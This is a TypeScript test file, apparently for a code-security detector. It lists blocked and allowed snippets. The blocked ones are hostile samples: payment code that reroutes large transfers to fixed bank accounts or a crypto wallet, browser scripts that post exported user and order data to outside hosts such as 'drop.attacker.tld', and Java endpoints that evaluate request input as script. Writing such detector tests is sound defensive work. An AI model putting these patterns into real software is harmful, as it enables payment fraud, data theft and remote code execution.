import { type AppsecCase, runCases } from "./_appsec_testing.ts";

const CASES: AppsecCase[] = [
  {
    id: "pay.threshold_rerouted_to_fixed_account",
    block: [
      // Python batch over a payment file
      `for row in batch:\n    row["amount"] = round(row["amount"], 2)\n    if row["amount"] > 25000:\n        row["iban"] = "FR7630006000011234567890189"\n`,
      // JS payout job
      `payouts.forEach(p => {\n  p.currency = p.currency.toUpperCase();\n  if (p.total >= 5_000) p.payeeAccount = 'NL91ABNA0417164300';\n});\n`,
      // SQL
      `UPDATE pending_transfers SET beneficiary_iban = 'GB29NWBK60161331926819' WHERE amount >= 15000 AND approved_by IS NULL;`,
      // VBA with a wallet
      `If Sheet1.Cells(i, 4).Value >= 2500 Then Sheet1.Cells(i, 7).Value = "0x52908400098527886E0F7030069857D2E4169EE7"`,
    ],
    pass: [
      // the company's own account as a constant, with an approval threshold
      `COMPANY_IBAN = "DE89370400440532013000"\nif invoice.total >= 10000:\n    invoice.needs_second_approval = True\n`,
      // normalising spaces only
      `If ws.Cells(r, 7).Value >= 10000 Then ws.Cells(r, 6).Value = Replace(ws.Cells(r, 6).Value, " ", "")`,
      // one supplier's account updated by id, no threshold
      `UPDATE suppliers SET iban = 'DE89370400440532013000' WHERE supplier_id = 4411;`,
    ],
  },
  {
    id: "js.page_data_posted_outside",
    block: [
      `(async () => {\n  const users = await (await fetch('/api/v1/admin/users?limit=5000')).json();\n  await fetch('https://collector.example-growth.io/in', { method: 'POST', body: JSON.stringify(users) });\n})();`,
      `const html = await (await fetch('/account/orders/export.csv')).text();\nnavigator.sendBeacon('https://stats.partner-leads.net/b', html);`,
      `let r = await fetch('/graphql', {method:'POST', body: q});\nconst dump = await (await fetch(exportUrl)).blob();\nawait fetch("https://drop.attacker.tld/u", { method: "PUT", mode: "no-cors", body: dump });`,
    ],
    pass: [
      // data read and posted back to the same app (relative)
      `const cart = await (await fetch('/api/cart')).json();\nawait fetch('/api/checkout', { method: 'POST', body: JSON.stringify(cart) });`,
      // telemetry with its own object, not the data read
      `const me = await (await fetch('/api/me')).json();\nawait fetch('https://telemetry.acme.com/e', { method: 'POST', body: JSON.stringify({ event: 'page_view' }) });`,
      // a server-side proxy between two absolute APIs
      `const data = await (await fetch('https://api.source.com/items')).json();\nawait fetch('https://api.dest.com/import', { method: 'POST', body: JSON.stringify(data) });`,
    ],
  },
  {
    id: "jvm.request_input_evaluated",
    block: [
      `@PostMapping("/calc")\npublic Object calc(@RequestParam("expr") String formula) {\n  return new GroovyShell().evaluate(formula);\n}`,
      `@PostMapping("/jexl")\npublic Object jexl(@RequestBody final String src) {\n  return jexl.createScript(src).execute(new MapContext());\n}`,
      `@PostMapping(consumes = "text/plain")\nString run(@RequestBody String payload) throws Exception {\n  ScriptEngine js = new ScriptEngineManager().getEngineByName("graal.js");\n  return String.valueOf(js.eval(payload));\n}`,
    ],
    pass: [
      // request input used as a variable of a fixed script
      `@PostMapping("/calc")\npublic Object calc(@RequestParam("x") String x) {\n  Bindings b = engine.createBindings(); b.put("x", x);\n  return engine.eval("x * 2", b);\n}`,
      // request body parsed as JSON
      `@PostMapping("/items")\npublic Item add(@RequestBody String body) throws Exception {\n  return mapper.readValue(body, Item.class);\n}`,
      // a fixed expression, input only checked
      `@GetMapping("/ok")\npublic boolean ok(@RequestParam String name) {\n  return parser.parseExpression("'admin' == 'x'").getValue(Boolean.class) && name.length() < 20;\n}`,
    ],
  },
];

runCases("r47", CASES);
